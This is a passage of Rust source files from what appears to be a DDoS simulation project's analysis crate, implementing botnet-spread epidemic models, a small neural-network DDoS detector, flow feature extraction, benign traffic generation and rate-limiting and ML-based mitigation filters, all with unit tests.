        r: state.r + dt / 6.0 * (k1.r + 2.0 * k2.r + 2.0 * k3.r + k4.r),
    }
}

/// Integrates the active-bot curve `I(t)` of a SEIRS system.
pub fn seirs_infected_curve(
    initial: SeirsState,
    p: SeirsParams,
    dt: f64,
    steps: usize,
) -> Vec<f64> {
    let mut out = Vec::with_capacity(steps + 1);
    let mut state = initial;
    out.push(state.i);
    for _ in 0..steps {
        state = seirs_rk4_step(state, p, dt);
        out.push(state.i);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn si_curve_is_monotone_and_saturates() {
        let curve = infected_curve(
            SirState { s: 99.0, i: 1.0, r: 0.0 },
            SirParams { beta: 0.8, gamma: 0.0 },
            0.5,
            100,
        );
        assert!(curve.windows(2).all(|w| w[1] >= w[0] - 1e-9), "monotone");
        assert!((curve.last().expect("nonempty") - 100.0).abs() < 1.0, "saturates at N");
    }

    #[test]
    fn sir_recovers() {
        let curve = infected_curve(
            SirState { s: 99.0, i: 1.0, r: 0.0 },
            SirParams { beta: 1.0, gamma: 0.3 },
            0.5,
            200,
        );
        let peak = curve.iter().copied().fold(0.0, f64::max);
        assert!(peak > 1.0, "epidemic grows first");
        assert!(*curve.last().expect("nonempty") < peak / 2.0, "then declines");
    }

    #[test]
    fn observed_curve_counts_cumulative() {
        let obs = observed_curve(&[1.0, 2.0, 2.5], 1.0, 4.0);
        assert_eq!(obs, vec![0.0, 1.0, 2.0, 3.0, 3.0]);
    }

    #[test]
    fn fit_recovers_known_beta() {
        let true_beta = 0.6;
        let curve = infected_curve(
            SirState { s: 49.0, i: 1.0, r: 0.0 },
            SirParams { beta: true_beta, gamma: 0.0 },
            1.0,
            60,
        );
        let (beta, err) = fit_si_beta(&curve, 50.0, 1.0, 1.0);
        assert!((beta - true_beta).abs() < 0.02, "fit {beta} vs {true_beta}");
        assert!(err < 0.1);
    }

    #[test]
    #[should_panic(expected = "curve lengths differ")]
    fn rmse_checks_lengths() {
        let _ = rmse(&[1.0], &[1.0, 2.0]);
    }

    #[test]
    fn seirs_population_is_conserved() {
        let mut state = SeirsState { s: 95.0, e: 0.0, i: 5.0, r: 0.0 };
        let p = SeirsParams { beta: 0.8, sigma: 0.5, gamma: 0.1, xi: 0.05 };
        for _ in 0..400 {
            state = seirs_rk4_step(state, p, 0.25);
        }
        assert!((state.n() - 100.0).abs() < 1e-6);
    }

    #[test]
    fn seirs_incubation_delays_the_peak() {
        // Slower incubation (smaller sigma) pushes the active-bot peak later.
        let init = SeirsState { s: 99.0, e: 0.0, i: 1.0, r: 0.0 };
        let fast = seirs_infected_curve(
            init,
            SeirsParams { beta: 1.0, sigma: 2.0, gamma: 0.2, xi: 0.0 },
            0.25,
            400,
        );
        let slow = seirs_infected_curve(
            init,
            SeirsParams { beta: 1.0, sigma: 0.2, gamma: 0.2, xi: 0.0 },
            0.25,
            400,
        );
        let argmax = |v: &[f64]| {
            v.iter()
                .enumerate()
                .max_by(|a, b| a.1.total_cmp(b.1))
                .map(|(i, _)| i)
                .expect("nonempty")
        };
        assert!(argmax(&slow) > argmax(&fast), "incubation delays the peak");
    }

    #[test]
    fn seirs_reinfection_sustains_an_endemic_level() {
        // With immunity loss (xi > 0) the infection persists; without it,
        // it burns out.
        let init = SeirsState { s: 99.0, e: 0.0, i: 1.0, r: 0.0 };
        let endemic = seirs_infected_curve(
            init,
            SeirsParams { beta: 1.0, sigma: 1.0, gamma: 0.3, xi: 0.1 },
            0.5,
            2000,
        );
        let burnout = seirs_infected_curve(
            init,
            SeirsParams { beta: 1.0, sigma: 1.0, gamma: 0.3, xi: 0.0 },
            0.5,
            2000,
        );
        assert!(*endemic.last().expect("nonempty") > 5.0, "endemic equilibrium");
        assert!(*burnout.last().expect("nonempty") < 1.0, "burns out without relapse");
    }

    #[test]
    fn population_is_conserved() {
        let mut state = SirState { s: 90.0, i: 10.0, r: 0.0 };
        let p = SirParams { beta: 0.7, gamma: 0.2 };
        for _ in 0..100 {
            state = rk4_step(state, p, 0.25);
        }
        assert!((state.n() - 100.0).abs() < 1e-6);
    }
}
