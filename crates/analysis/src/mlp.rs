//! A small feed-forward neural network — the paper names "neural networks"
//! as the canonical model class for ML-based DDoS detection (§V-A). One
//! hidden tanh layer trained by SGD on binary cross-entropy; deterministic
//! for a given seed.

use crate::classify::{Sample, Standardizer};
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

fn sigmoid(z: f64) -> f64 {
    1.0 / (1.0 + (-z).exp())
}

/// Training hyperparameters for the [`Mlp`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct MlpConfig {
    /// Hidden-layer width.
    pub hidden: usize,
    /// Learning rate.
    pub learning_rate: f64,
    /// Passes over the data.
    pub epochs: usize,
    /// L2 penalty.
    pub l2: f64,
    /// Init/shuffle seed.
    pub seed: u64,
}

impl Default for MlpConfig {
    fn default() -> Self {
        MlpConfig {
            hidden: 8,
            learning_rate: 0.02,
            epochs: 80,
            l2: 1e-4,
            seed: 11,
        }
    }
}

/// A 1-hidden-layer tanh network with a sigmoid output.
#[derive(Debug, Clone, PartialEq)]
pub struct Mlp {
    // w1[h][d]: input→hidden, b1[h]; w2[h]: hidden→output, b2.
    w1: Vec<Vec<f64>>,
    b1: Vec<f64>,
    w2: Vec<f64>,
    b2: f64,
    standardizer: Standardizer,
}

impl Mlp {
    /// Trains on `samples`.
    ///
    /// # Panics
    ///
    /// Panics if `samples` is empty or feature dimensions disagree.
    pub fn train(samples: &[Sample], config: MlpConfig) -> Self {
        assert!(!samples.is_empty(), "cannot train on an empty set");
        let dim = samples[0].features.len();
        assert!(
            samples.iter().all(|s| s.features.len() == dim),
            "inconsistent feature dimensions"
        );
        let standardizer = Standardizer::fit(samples);
        let data: Vec<(Vec<f64>, f64)> = samples
            .iter()
            .map(|s| (standardizer.apply(&s.features), f64::from(u8::from(s.label))))
            .collect();

        let mut rng = rand::rngs::SmallRng::seed_from_u64(config.seed);
        let h = config.hidden.max(1);
        let scale = (1.0 / dim as f64).sqrt();
        let mut w1: Vec<Vec<f64>> = (0..h)
            .map(|_| (0..dim).map(|_| rng.gen_range(-scale..scale)).collect())
            .collect();
        let mut b1 = vec![0.0; h];
        let mut w2: Vec<f64> = (0..h).map(|_| rng.gen_range(-0.5..0.5)).collect();
        let mut b2 = 0.0;

        let mut order: Vec<usize> = (0..data.len()).collect();
        let lr = config.learning_rate;
        for _ in 0..config.epochs {
            order.shuffle(&mut rng);
            for &i in &order {
                let (x, y) = &data[i];
                // Forward.
                let hidden: Vec<f64> = (0..h)
                    .map(|j| {
                        (b1[j] + w1[j].iter().zip(x).map(|(w, v)| w * v).sum::<f64>()).tanh()
                    })
                    .collect();
                let out = sigmoid(b2 + w2.iter().zip(&hidden).map(|(w, a)| w * a).sum::<f64>());
                // Backward (cross-entropy + sigmoid => simple delta).
                let delta_out = out - y;
                for j in 0..h {
                    let grad_w2 = delta_out * hidden[j];
                    let delta_h = delta_out * w2[j] * (1.0 - hidden[j] * hidden[j]);
                    w2[j] -= lr * (grad_w2 + config.l2 * w2[j]);
                    for (w, v) in w1[j].iter_mut().zip(x) {
                        *w -= lr * (delta_h * v + config.l2 * *w);
                    }
                    b1[j] -= lr * delta_h;
                }
                b2 -= lr * delta_out;
            }
        }
        Mlp {
            w1,
            b1,
            w2,
            b2,
            standardizer,
        }
    }

    /// Attack probability for a raw (unstandardized) feature vector.
    pub fn predict_probability(&self, features: &[f64]) -> f64 {
        let x = self.standardizer.apply(features);
        let hidden: Vec<f64> = self
            .w1
            .iter()
            .zip(&self.b1)
            .map(|(row, b)| (b + row.iter().zip(&x).map(|(w, v)| w * v).sum::<f64>()).tanh())
            .collect();
        sigmoid(self.b2 + self.w2.iter().zip(&hidden).map(|(w, a)| w * a).sum::<f64>())
    }

    /// Hard decision at threshold 0.5.
    pub fn predict(&self, features: &[f64]) -> bool {
        self.predict_probability(features) >= 0.5
    }

    /// Evaluates accuracy on a labeled set.
    pub fn accuracy(&self, test: &[Sample]) -> f64 {
        if test.is_empty() {
            return 0.0;
        }
        let correct = test
            .iter()
            .filter(|s| self.predict(&s.features) == s.label)
            .count();
        correct as f64 / test.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classify::{synthetic_dataset, train_test_split};
    use rand::rngs::SmallRng;

    #[test]
    fn learns_synthetic_separation() {
        let mut rng = SmallRng::seed_from_u64(2);
        let data = synthetic_dataset(200, &mut rng);
        let (train, test) = train_test_split(data, 0.25, 3);
        let mlp = Mlp::train(&train, MlpConfig::default());
        assert!(mlp.accuracy(&test) > 0.95, "accuracy {:.3}", mlp.accuracy(&test));
    }

    #[test]
    fn learns_a_nonlinear_boundary_logistic_regression_cannot() {
        // XOR-style: label = (f0 > 0) ^ (f1 > 0). Linear models sit at
        // ~50%; the MLP must do much better.
        let mut rng = SmallRng::seed_from_u64(4);
        let mut data = Vec::new();
        for _ in 0..600 {
            let a: f64 = rng.gen_range(-1.0..1.0);
            let b: f64 = rng.gen_range(-1.0..1.0);
            data.push(Sample {
                features: vec![a, b],
                label: (a > 0.0) ^ (b > 0.0),
            });
        }
        let (train, test) = train_test_split(data, 0.25, 5);
        let mlp = Mlp::train(
            &train,
            MlpConfig {
                hidden: 12,
                epochs: 400,
                learning_rate: 0.05,
                ..MlpConfig::default()
            },
        );
        let lr = crate::classify::LogisticRegression::train(
            &train,
            crate::classify::TrainConfig::default(),
        );
        let lr_acc = crate::classify::Metrics::evaluate(&lr, &test).accuracy();
        let mlp_acc = mlp.accuracy(&test);
        assert!(mlp_acc > 0.85, "MLP solves XOR: {mlp_acc:.3}");
        assert!(
            mlp_acc > lr_acc + 0.2,
            "MLP must beat the linear model on XOR: {mlp_acc:.3} vs {lr_acc:.3}"
        );
    }

    #[test]
    fn training_is_deterministic() {
        let mut rng = SmallRng::seed_from_u64(6);
        let data = synthetic_dataset(50, &mut rng);
        let a = Mlp::train(&data, MlpConfig::default());
        let b = Mlp::train(&data, MlpConfig::default());
        assert_eq!(a, b);
    }

    #[test]
    #[should_panic(expected = "empty")]
    fn empty_training_panics() {
        let _ = Mlp::train(&[], MlpConfig::default());
    }
}
