//! # analysis — defense and modelling use cases
//!
//! The paper's §V use cases, implemented end to end:
//!
//! * **ML-based DDoS defense** (§V-A): extract per-flow features from
//!   TServer's packet trace ([`FeatureExtractor`]), label them, and train a
//!   [`LogisticRegression`] detector or a small neural network ([`Mlp`],
//!   the model class the paper names) — or export the dataset
//!   ([`dataset_csv`]) to train other models.
//! * **Benign traffic generation**: [`BenignClient`] produces the "normal
//!   traffic to TServer" the defense use case mixes with attack traffic.
//! * **Deployable mitigations**: [`RateLimiter`] and [`ModelFilter`]
//!   build `netsim` ingress filters so defenses can be *deployed inside*
//!   the simulation and their effectiveness measured (§I).
//! * **Epidemic models of botnet spread** (§V-A2): SI/SIR ODE integrators
//!   ([`epidemic`]), plus fitting of the contact rate β to DDoSim's
//!   *measured* infection curve to test how well the mathematical model
//!   tracks the simulated propagation.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod benign;
pub mod classify;
pub mod epidemic;
pub mod features;
pub mod mitigation;
pub mod mlp;

pub use benign::BenignClient;
pub use classify::{
    synthetic_dataset, train_test_split, LogisticRegression, Metrics, Sample, Standardizer,
    TrainConfig,
};
pub use epidemic::{
    fit_si_beta, infected_curve, observed_curve, rmse, seirs_infected_curve, SeirsParams,
    SeirsState, SirParams, SirState,
};
pub use features::{dataset_csv, FeatureExtractor, FlowFeatures};
pub use mitigation::{blocked_fraction, ModelFilter, RateLimiter};
pub use mlp::{Mlp, MlpConfig};

use std::collections::HashSet;
use std::net::IpAddr;

/// Labels extracted flow features by source membership in the known attack
/// set (the simulation analogue of ground-truth labels in public DDoS
/// datasets).
pub fn label_samples(features: Vec<FlowFeatures>, attack_sources: &HashSet<IpAddr>) -> Vec<Sample> {
    features
        .into_iter()
        .map(|f| Sample {
            label: attack_sources.contains(&f.src),
            features: f.vector().to_vec(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labeling_by_source() {
        let f = FlowFeatures {
            src: "10.0.0.1".parse().expect("ip"),
            window: 0,
            packets: 1.0,
            bytes: 100.0,
            mean_size: 100.0,
            std_size: 0.0,
            mean_iat: 0.0,
            distinct_dst_ports: 1.0,
            udp_fraction: 1.0,
        };
        let mut attack = HashSet::new();
        attack.insert("10.0.0.1".parse::<IpAddr>().expect("ip"));
        let samples = label_samples(vec![f.clone()], &attack);
        assert!(samples[0].label);
        let samples = label_samples(vec![f], &HashSet::new());
        assert!(!samples[0].label);
    }
}
