//! Traffic feature extraction for ML-based DDoS defense (§V-A).
//!
//! "Most ML-based DDoS detection approaches rely on extracting features
//! from incoming network traffic (e.g., IP address, traffic rate) and
//! feeding them into an ML model." This module turns the simulator's packet
//! trace at TServer into per-source, per-window feature vectors.

use netsim::{TraceKind, TraceRecord, TransportProto};
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;
use std::time::Duration;

/// Features of one (source, time-window) flow aggregate.
#[derive(Debug, Clone, PartialEq)]
pub struct FlowFeatures {
    /// Source address.
    pub src: IpAddr,
    /// Window index.
    pub window: u64,
    /// Packets in the window.
    pub packets: f64,
    /// Total wire bytes in the window.
    pub bytes: f64,
    /// Mean packet size.
    pub mean_size: f64,
    /// Packet-size standard deviation.
    pub std_size: f64,
    /// Mean inter-arrival time (seconds; 0 for single-packet windows).
    pub mean_iat: f64,
    /// Number of distinct destination ports touched.
    pub distinct_dst_ports: f64,
    /// Fraction of UDP packets.
    pub udp_fraction: f64,
}

impl FlowFeatures {
    /// The feature vector used by classifiers (fixed order).
    pub fn vector(&self) -> [f64; 7] {
        [
            self.packets,
            self.bytes,
            self.mean_size,
            self.std_size,
            self.mean_iat,
            self.distinct_dst_ports,
            self.udp_fraction,
        ]
    }

    /// Number of features in [`FlowFeatures::vector`].
    pub const DIM: usize = 7;
}

/// Aggregates delivered-packet trace records into per-source windows.
#[derive(Debug)]
pub struct FeatureExtractor {
    window: Duration,
    acc: BTreeMap<(IpAddr, u64), Acc>,
}

#[derive(Debug, Default)]
struct Acc {
    sizes: Vec<f64>,
    times: Vec<f64>,
    ports: BTreeSet<u16>,
    udp: u64,
}

impl FeatureExtractor {
    /// Creates an extractor with the given window length.
    ///
    /// # Panics
    ///
    /// Panics if `window` is zero.
    pub fn new(window: Duration) -> Self {
        assert!(!window.is_zero(), "window must be positive");
        FeatureExtractor {
            window,
            acc: BTreeMap::new(),
        }
    }

    /// Feeds one trace record; only `Delivered` records are used.
    pub fn push(&mut self, record: &TraceRecord) {
        if record.kind != TraceKind::Delivered {
            return;
        }
        let t = record.time.as_secs_f64();
        let w = (t / self.window.as_secs_f64()) as u64;
        let acc = self.acc.entry((record.src.ip(), w)).or_default();
        acc.sizes.push(f64::from(record.wire_bytes));
        acc.times.push(t);
        acc.ports.insert(record.dst.port());
        if record.proto == TransportProto::Udp {
            acc.udp += 1;
        }
    }

    /// Finalizes into feature rows.
    pub fn finish(self) -> Vec<FlowFeatures> {
        self.acc
            .into_iter()
            .map(|((src, window), acc)| {
                let n = acc.sizes.len() as f64;
                let bytes: f64 = acc.sizes.iter().sum();
                let mean_size = bytes / n;
                let var = acc
                    .sizes
                    .iter()
                    .map(|s| (s - mean_size).powi(2))
                    .sum::<f64>()
                    / n;
                let mut times = acc.times;
                times.sort_by(f64::total_cmp);
                let mean_iat = if times.len() > 1 {
                    (times[times.len() - 1] - times[0]) / (times.len() - 1) as f64
                } else {
                    0.0
                };
                FlowFeatures {
                    src,
                    window,
                    packets: n,
                    bytes,
                    mean_size,
                    std_size: var.sqrt(),
                    mean_iat,
                    distinct_dst_ports: acc.ports.len() as f64,
                    udp_fraction: acc.udp as f64 / n,
                }
            })
            .collect()
    }
}

/// Exports labeled flow features as CSV — "generating large traffic
/// datasets or enriching existing ones with DDoSim to train ML models for
/// DDoS traffic detection" (§V-A). Columns follow
/// [`FlowFeatures::vector`]'s order plus `src,window,label`.
pub fn dataset_csv<'a, I>(rows: I) -> String
where
    I: IntoIterator<Item = (&'a FlowFeatures, bool)>,
{
    let mut out = String::from(
        "src,window,packets,bytes,mean_size,std_size,mean_iat,distinct_dst_ports,udp_fraction,label\n",
    );
    for (f, label) in rows {
        out.push_str(&format!(
            "{},{},{},{},{:.3},{:.3},{:.6},{},{:.3},{}\n",
            f.src,
            f.window,
            f.packets,
            f.bytes,
            f.mean_size,
            f.std_size,
            f.mean_iat,
            f.distinct_dst_ports,
            f.udp_fraction,
            u8::from(label),
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::{NodeId, SimTime};
    use std::net::SocketAddr;

    fn record(t_ms: u64, src_last: u8, bytes: u32, dst_port: u16) -> TraceRecord {
        TraceRecord {
            time: SimTime::from_millis(t_ms),
            kind: TraceKind::Delivered,
            node: NodeId::from_index(0),
            packet_id: 0,
            src: SocketAddr::new(IpAddr::V4(std::net::Ipv4Addr::new(10, 0, 0, src_last)), 4000),
            dst: SocketAddr::new(IpAddr::V4(std::net::Ipv4Addr::new(10, 0, 0, 9)), dst_port),
            proto: TransportProto::Udp,
            wire_bytes: bytes,
        }
    }

    #[test]
    fn windows_group_by_source_and_time() {
        let mut fx = FeatureExtractor::new(Duration::from_secs(1));
        fx.push(&record(100, 1, 540, 80));
        fx.push(&record(200, 1, 540, 80));
        fx.push(&record(1500, 1, 540, 80)); // next window
        fx.push(&record(100, 2, 100, 80)); // other source
        let rows = fx.finish();
        assert_eq!(rows.len(), 3);
        let first = rows
            .iter()
            .find(|r| r.window == 0 && r.src.to_string() == "10.0.0.1")
            .expect("row exists");
        assert_eq!(first.packets, 2.0);
        assert_eq!(first.bytes, 1080.0);
        assert_eq!(first.mean_size, 540.0);
        assert_eq!(first.std_size, 0.0);
        assert!((first.mean_iat - 0.1).abs() < 1e-9);
        assert_eq!(first.udp_fraction, 1.0);
    }

    #[test]
    fn non_delivered_records_ignored() {
        let mut fx = FeatureExtractor::new(Duration::from_secs(1));
        let mut r = record(0, 1, 100, 80);
        r.kind = TraceKind::Sent;
        fx.push(&r);
        assert!(fx.finish().is_empty());
    }

    #[test]
    fn vector_has_declared_dim() {
        let mut fx = FeatureExtractor::new(Duration::from_secs(1));
        fx.push(&record(0, 1, 100, 80));
        let rows = fx.finish();
        assert_eq!(rows[0].vector().len(), FlowFeatures::DIM);
    }

    #[test]
    fn distinct_ports_counted() {
        let mut fx = FeatureExtractor::new(Duration::from_secs(1));
        fx.push(&record(0, 1, 100, 80));
        fx.push(&record(10, 1, 100, 443));
        let rows = fx.finish();
        assert_eq!(rows[0].distinct_dst_ports, 2.0);
    }

    #[test]
    #[should_panic(expected = "window must be positive")]
    fn zero_window_rejected() {
        let _ = FeatureExtractor::new(Duration::ZERO);
    }

    #[test]
    fn dataset_csv_has_header_and_labeled_rows() {
        let mut fx = FeatureExtractor::new(Duration::from_secs(1));
        fx.push(&record(0, 1, 540, 80));
        fx.push(&record(10, 2, 120, 80));
        let rows = fx.finish();
        let csv = dataset_csv(rows.iter().map(|f| (f, f.src.to_string().ends_with(".1"))));
        let lines: Vec<&str> = csv.lines().collect();
        assert_eq!(lines.len(), 3);
        assert!(lines[0].starts_with("src,window,packets"));
        assert!(lines.iter().any(|l| l.starts_with("10.0.0.1") && l.ends_with(",1")));
        assert!(lines.iter().any(|l| l.starts_with("10.0.0.2") && l.ends_with(",0")));
    }
}
