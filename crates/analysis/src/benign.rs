//! Benign background-traffic generation for the ML-defense use case:
//! "testing a defense strategy by generating both malicious DDoS and
//! normal traffic to TServer" (§V-A).

use netsim::{Application, Ctx, Payload};
use rand::Rng;
use std::net::SocketAddr;
use std::time::Duration;

const TIMER_SEND: u64 = 1;

/// A benign client: sends variably-sized datagrams to the server at a low,
/// jittered rate (smart-home telemetry-like traffic).
#[derive(Debug)]
pub struct BenignClient {
    server: SocketAddr,
    mean_interval: Duration,
    src_port: u16,
    /// Datagrams sent.
    pub sent: u64,
}

impl BenignClient {
    /// Creates a client talking to `server` with the given mean interval.
    pub fn new(server: SocketAddr, mean_interval: Duration) -> Self {
        BenignClient {
            server,
            mean_interval,
            src_port: 0,
            sent: 0,
        }
    }

    fn arm(&self, ctx: &mut Ctx<'_>) {
        // Jittered inter-send gap: U[0.5, 1.5] × mean.
        let mean_ms = self.mean_interval.as_millis().max(2) as u64;
        let gap = Duration::from_millis(ctx.rng().gen_range(mean_ms / 2..mean_ms * 3 / 2));
        ctx.set_timer(gap, TIMER_SEND);
    }
}

impl Application for BenignClient {
    fn name(&self) -> &str {
        "benign-client"
    }

    fn fork(&self, _map: &netsim::ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(BenignClient {
            server: self.server,
            mean_interval: self.mean_interval,
            src_port: self.src_port,
            sent: self.sent,
        }))
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.src_port = ctx.udp_bind_ephemeral();
        self.arm(ctx);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token != TIMER_SEND {
            return;
        }
        if ctx.node_is_up() {
            let bytes = ctx.rng().gen_range(40..1200);
            // Mix of ports: telemetry (80), DNS-ish (53), app-specific.
            let port = *[self.server.port(), 53, 8883]
                .get(ctx.rng().gen_range(0..3usize))
                .expect("index in range");
            let dst = SocketAddr::new(self.server.ip(), port);
            if ctx
                .udp_send(self.src_port, dst, Payload::empty(), bytes)
                .is_ok()
            {
                self.sent += 1;
            }
        }
        self.arm(ctx);
    }
}
