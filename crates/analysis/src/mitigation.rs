//! Deployable DDoS mitigations — the paper's primary use case: "researchers
//! can also utilize DDoSim to implement and evaluate defense strategies
//! against these attacks in the simulated environment, measuring their
//! effectiveness in mitigating or preventing exploits" (§I).
//!
//! Two network-level defenses are provided as [`IngressFilter`] builders:
//!
//! * [`RateLimiter`] — a per-source token bucket (the classic volumetric
//!   mitigation);
//! * [`ModelFilter`] — drops traffic from sources a trained
//!   [`LogisticRegression`] detector flags, re-scoring each source every
//!   window (an ML-in-the-loop defense).

use crate::classify::LogisticRegression;
use crate::features::{FeatureExtractor, FlowFeatures};
use netsim::{FilterVerdict, IngressFilter, Packet, SimTime, TraceKind, TraceRecord};
use std::collections::HashMap;
use std::net::IpAddr;
use std::time::Duration;

/// A per-source token-bucket rate limiter.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct RateLimiter {
    /// Sustained allowance per source, bits per second.
    pub rate_bps: u64,
    /// Burst allowance per source, bytes.
    pub burst_bytes: u64,
}

impl Default for RateLimiter {
    fn default() -> Self {
        RateLimiter {
            rate_bps: 64_000,
            burst_bytes: 16 * 1024,
        }
    }
}

#[derive(Debug, Clone, Copy)]
struct Bucket {
    tokens: f64,
    last: SimTime,
}

impl RateLimiter {
    /// Builds the structured (forkable, digestible) form of this limiter:
    /// a [`netsim::FilterRule::RateLimit`] with the same refill and cost
    /// semantics as [`RateLimiter::into_filter`]. Scenario-scheduled
    /// defenses deploy this via [`netsim::Simulator::push_node_filter`]
    /// because closure filters cannot survive a fork or checkpoint.
    pub fn into_rule(self) -> netsim::FilterRule {
        netsim::FilterRule::RateLimit {
            rate_bps: self.rate_bps,
            burst_bytes: self.burst_bytes,
            buckets: std::collections::BTreeMap::new(),
        }
    }

    /// Builds the deployable filter.
    pub fn into_filter(self) -> IngressFilter {
        let mut buckets: HashMap<IpAddr, Bucket> = HashMap::new();
        let rate = self.rate_bps as f64 / 8.0; // bytes per second
        let burst = self.burst_bytes as f64;
        Box::new(move |packet: &Packet, now: SimTime| {
            let bucket = buckets.entry(packet.src.ip()).or_insert(Bucket {
                tokens: burst,
                last: now,
            });
            let elapsed = now.saturating_since(bucket.last).as_secs_f64();
            bucket.last = now;
            bucket.tokens = (bucket.tokens + elapsed * rate).min(burst);
            let cost = f64::from(packet.wire_bytes());
            if bucket.tokens >= cost {
                bucket.tokens -= cost;
                FilterVerdict::Allow
            } else {
                FilterVerdict::Drop
            }
        })
    }
}

/// An ML-in-the-loop filter: accumulates per-source flow features over a
/// window, scores each source with the trained detector at the window
/// boundary, and drops packets from flagged sources in the next window.
#[derive(Debug)]
pub struct ModelFilter {
    /// The trained detector.
    pub model: LogisticRegression,
    /// Scoring window.
    pub window: Duration,
    /// Probability threshold above which a source is blocked.
    pub threshold: f64,
}

impl ModelFilter {
    /// Builds the deployable filter.
    pub fn into_filter(self) -> IngressFilter {
        let ModelFilter {
            model,
            window,
            threshold,
        } = self;
        let mut extractor = FeatureExtractor::new(window);
        let mut blocked: HashMap<IpAddr, bool> = HashMap::new();
        let mut current_window: u64 = 0;
        let window_secs = window.as_secs_f64();
        Box::new(move |packet: &Packet, now: SimTime| {
            let w = (now.as_secs_f64() / window_secs) as u64;
            if w > current_window {
                // Window rolled over: score what we saw and reset.
                let features = std::mem::replace(&mut extractor, FeatureExtractor::new(window))
                    .finish();
                blocked.clear();
                for f in features {
                    let p = model.predict_probability(&f.vector());
                    if p >= threshold {
                        blocked.insert(f.src, true);
                    }
                }
                current_window = w;
            }
            // Record this packet for the next scoring round (as a
            // delivered-at-this-node observation).
            extractor.push(&TraceRecord {
                time: now,
                kind: TraceKind::Delivered,
                node: netsim::NodeId::from_index(0),
                packet_id: packet.id,
                src: packet.src,
                dst: packet.dst,
                proto: packet.proto,
                wire_bytes: packet.wire_bytes(),
            });
            if blocked.contains_key(&packet.src.ip()) {
                FilterVerdict::Drop
            } else {
                FilterVerdict::Allow
            }
        })
    }
}

/// Convenience: what fraction of observed flow windows a filter would
/// block, given labeled features (offline evaluation of a
/// [`ModelFilter`]'s policy).
pub fn blocked_fraction(model: &LogisticRegression, threshold: f64, flows: &[FlowFeatures]) -> f64 {
    if flows.is_empty() {
        return 0.0;
    }
    let blocked = flows
        .iter()
        .filter(|f| model.predict_probability(&f.vector()) >= threshold)
        .count();
    blocked as f64 / flows.len() as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::{Payload, TransportProto};
    use std::net::SocketAddr;

    fn pkt(src_last: u8, bytes: u32) -> Packet {
        Packet::new(
            SocketAddr::new(IpAddr::V4(std::net::Ipv4Addr::new(10, 0, 0, src_last)), 1),
            SocketAddr::new(IpAddr::V4(std::net::Ipv4Addr::new(10, 0, 0, 9)), 80),
            TransportProto::Udp,
            Payload::empty(),
            28,
            bytes.saturating_sub(28),
        )
    }

    #[test]
    fn rate_limiter_allows_within_budget() {
        let mut f = RateLimiter {
            rate_bps: 80_000, // 10 kB/s
            burst_bytes: 1_000,
        }
        .into_filter();
        // One 540-byte packet per second is well under budget.
        for s in 0..10 {
            let verdict = f(&pkt(1, 540), SimTime::from_secs(s));
            assert_eq!(verdict, FilterVerdict::Allow, "second {s}");
        }
    }

    #[test]
    fn rate_limiter_drops_floods_but_not_other_sources() {
        let mut f = RateLimiter {
            rate_bps: 80_000,
            burst_bytes: 1_000,
        }
        .into_filter();
        // Source 1 floods within one instant: burst exhausts quickly.
        let mut dropped = 0;
        for _ in 0..50 {
            if f(&pkt(1, 540), SimTime::from_secs(1)) == FilterVerdict::Drop {
                dropped += 1;
            }
        }
        assert!(dropped > 40, "flood mostly dropped, got {dropped}");
        // Source 2 is unaffected (independent bucket).
        assert_eq!(f(&pkt(2, 540), SimTime::from_secs(1)), FilterVerdict::Allow);
    }

    #[test]
    fn rate_limiter_refills_over_time() {
        let mut f = RateLimiter {
            rate_bps: 80_000,
            burst_bytes: 600,
        }
        .into_filter();
        assert_eq!(f(&pkt(1, 540), SimTime::from_secs(0)), FilterVerdict::Allow);
        assert_eq!(f(&pkt(1, 540), SimTime::from_secs(0)), FilterVerdict::Drop);
        // After a second, 10 kB of tokens accrued (capped at burst 600).
        assert_eq!(f(&pkt(1, 540), SimTime::from_secs(1)), FilterVerdict::Allow);
    }

    #[test]
    fn zero_rate_admits_only_the_initial_burst() {
        // rate_bps = 0: the bucket never refills, so exactly the initial
        // burst passes and everything after is dropped forever.
        let mut f = RateLimiter {
            rate_bps: 0,
            burst_bytes: 1_080, // two 540-byte packets
        }
        .into_filter();
        assert_eq!(f(&pkt(1, 540), SimTime::from_secs(0)), FilterVerdict::Allow);
        assert_eq!(f(&pkt(1, 540), SimTime::from_secs(0)), FilterVerdict::Allow);
        assert_eq!(f(&pkt(1, 540), SimTime::from_secs(0)), FilterVerdict::Drop);
        // Even hours later nothing has refilled.
        assert_eq!(f(&pkt(1, 540), SimTime::from_secs(3600)), FilterVerdict::Drop);
    }

    #[test]
    fn burst_exhaustion_is_exact() {
        // The burst is an exact byte budget: a packet that fits passes,
        // the first packet that would overdraw is dropped, and the budget
        // does not leak across the drop (tokens are only spent on Allow).
        let mut f = RateLimiter {
            rate_bps: 0,
            burst_bytes: 1_000,
        }
        .into_filter();
        let t = SimTime::from_secs(0);
        assert_eq!(f(&pkt(1, 600), t), FilterVerdict::Allow, "600 spent, 400 left");
        assert_eq!(f(&pkt(1, 600), t), FilterVerdict::Drop, "600 > 400 remaining");
        // The failed 600-byte packet spent nothing: a 400-byte one fits.
        assert_eq!(f(&pkt(1, 400), t), FilterVerdict::Allow, "exact remainder fits");
        assert_eq!(f(&pkt(1, 29), t), FilterVerdict::Drop, "budget now empty");
    }

    #[test]
    fn refill_is_deterministic_across_identical_runs() {
        // Two identically-configured limiters fed the identical packet
        // schedule (the same-seed case: deterministic sims present the
        // same arrival sequence) must agree on every verdict.
        let run = || -> Vec<FilterVerdict> {
            let mut f = RateLimiter {
                rate_bps: 24_000, // 3 kB/s — under the ~4.9 kB/s offered per source
                burst_bytes: 2_000,
            }
            .into_filter();
            let mut verdicts = Vec::new();
            for i in 0..200u64 {
                let t = SimTime::from_millis(i * 37);
                let src = (i % 3) as u8 + 1;
